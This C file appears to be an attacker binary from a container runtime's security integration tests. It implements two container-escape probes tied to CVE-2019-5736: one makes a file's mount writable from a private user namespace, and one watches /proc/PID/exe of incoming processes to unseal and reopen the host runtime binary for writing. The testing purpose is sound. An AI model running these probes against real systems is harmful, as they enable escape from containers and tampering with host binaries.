/* The attackers of integration/security: attacker WORD [ARGUMENT...]. Each word is one attack, run inside a container as its
 * program; what it got it prints, and it exits with 0 when it got through, 1 when it did not, 2 when it was not told what to
 * do. Build: cc -static -O1 -Wall -Werror -pthread -o attacker attacker.c */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

struct attack {
	const char *word;
	int (*run)(int argc, char **argv);
};

/* Opens for writing what a descriptor refers to. */
static int reopen(int fd)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return open(path, O_WRONLY | O_CLOEXEC);
}

static int unseal_mount(int fd)
{
	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
	return syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof(writable));
}

/* CVE-2019-5736: unseal FILE: makes the mount of FILE writable from a user namespace of our own, and opens it for writing. */
static int unseal(int argc, char **argv)
{
	int fd = argc > 1 ? open(argv[1], O_PATH | O_CLOEXEC) : -1;
	if (fd < 0 || unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return 2;
	int unsealed = unseal_mount(fd);
	printf("mount_setattr: %s\n", unsealed ? strerror(errno) : "done");
	int opened = reopen(fd);
	printf("open: %s\n", opened < 0 ? strerror(errno) : "done");
	return unsealed == 0 || opened >= 0 ? 0 : 1;
}

/* The same with every process that comes, while it comes, for SECONDS. The one who unseals waits in a user namespace and
 * shares our descriptors; the one who opens keeps the capability to look into others. */
static int unseal_next(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	volatile int *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	shared[0] = shared[1] = shared[2] = -1;
	long helper = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
	if (helper == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
			_exit(2);
		shared[2] = 0;
		for (;;) {
			int fd = shared[0];
			if (fd < 0)
				continue;
			shared[1] = unseal_mount(fd) ? errno : 0;
			shared[0] = -1;
		}
	}
	while (shared[2] < 0)
		if (waitpid(helper, NULL, WNOHANG) == helper)
			return 2;
	struct stat own, other;
	stat("/proc/self/exe", &own);
	int seen = 0, got = 0;
	alarm(atoi(argv[1]) + 10);
	puts("ready");
	fflush(stdout);
	for (time_t end = time(NULL) + atoi(argv[1]); time(NULL) < end && !got;) {
		for (int pid = getpid() + 2; pid < getpid() + 400 && !got; pid++) {
			char path[64];
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (!fstat(fd, &other) && (other.st_ino != own.st_ino || other.st_dev != own.st_dev)) {
				seen++;
				shared[0] = fd;
				while (shared[0] >= 0)
					;
				got = shared[1] == 0;
			}
			close(fd);
		}
	}
	kill(helper, SIGKILL);
	printf("seen %d, %s\n", seen, got ? "unsealed" : "not unsealed");
	return got ? 0 : 1;
}

/* One line for each attack, sorted by word. */
static const struct attack attacks[] = {
	{ "unseal", unseal },
	{ "unseal-next", unseal_next },
	{ NULL, NULL },
};

int main(int argc, char **argv)
{
	for (const struct attack *a = attacks; argc > 1 && a->word; a++)
		if (!strcmp(a->word, argv[1]))
			return a->run(argc - 1, argv + 1);
	fputs("usage: attacker WORD [ARGUMENT...], with one of the words:\n", stderr);
	for (const struct attack *a = attacks; a->word; a++)
		fprintf(stderr, "  %s\n", a->word);
	return 2;
}
